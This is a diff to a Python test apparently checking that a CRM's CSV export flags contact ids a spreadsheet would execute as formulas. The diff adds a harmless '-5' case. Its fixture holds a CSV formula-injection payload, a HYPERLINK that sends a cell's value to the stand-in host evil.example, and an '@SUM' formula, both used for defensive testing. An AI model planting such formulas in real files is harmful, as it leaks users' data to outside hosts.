@@ -136,8 +136,9 @@ def test_a_csv_says_how_many_ids_a_spreadsheet_would_run_as_formulas(
     """Privacy review: ids such as `=HYPERLINK(...)` were written verbatim into the CRM's CSV
     without a word; a spreadsheet opening it runs them. They are the CRM's own ids, so they
     are kept as they are (a changed id would not match its contact on import), and said."""
-    some = pl.read_parquet(scored)["contact_id"].head(2).to_list()
+    some = pl.read_parquet(scored)["contact_id"].head(3).to_list()
     formulas = {some[0]: '=HYPERLINK("http://evil.example/?x="&A2,"click")', some[1]: "@SUM(1+1)"}
+    formulas[some[2]] = "-5"  # a signed number: a spreadsheet reads it as one, runs nothing
     folder = tmp_path / "data"
     folder.mkdir()
     for name, table in (("events", served.events), ("contacts", served.contacts)):
